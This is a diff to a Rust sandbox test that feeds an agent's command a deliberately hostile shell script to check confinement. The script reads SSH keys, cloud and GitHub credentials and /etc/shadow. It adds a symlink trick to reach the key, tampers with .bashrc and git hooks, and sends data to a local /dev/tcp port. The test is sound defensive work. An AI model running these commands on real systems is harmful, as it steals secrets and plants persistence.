@@ -184,7 +184,8 @@ async fn a_command_of_the_agent_reads_no_secret_writes_nothing_outside_and_reach
     let (h, r, p) = (person.home.display(), root.display(), listener.port);
     let script = format!(
         "cat {h}/.ssh/id_ed25519 {h}/.aws/credentials {h}/.config/gh/hosts.yml {h}/.netrc; \
-         cat /etc/shadow; echo listing:; ls -A {h}; echo end-listing; \
+         cat /etc/shadow; ln -s {h}/.ssh/id_ed25519 key-link && cat key-link; \
+         echo listing:; ls -A {h}; echo end-listing; \
          echo pwned >> {h}/.bashrc; echo pwned > {o}; echo pwned > {ow}/planted.txt; \
          echo 'exit 1' > {r}/.git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> {r}/.git/config; \
          bash -c 'echo leak > /dev/tcp/127.0.0.1/{p}' && echo tcp-open; \
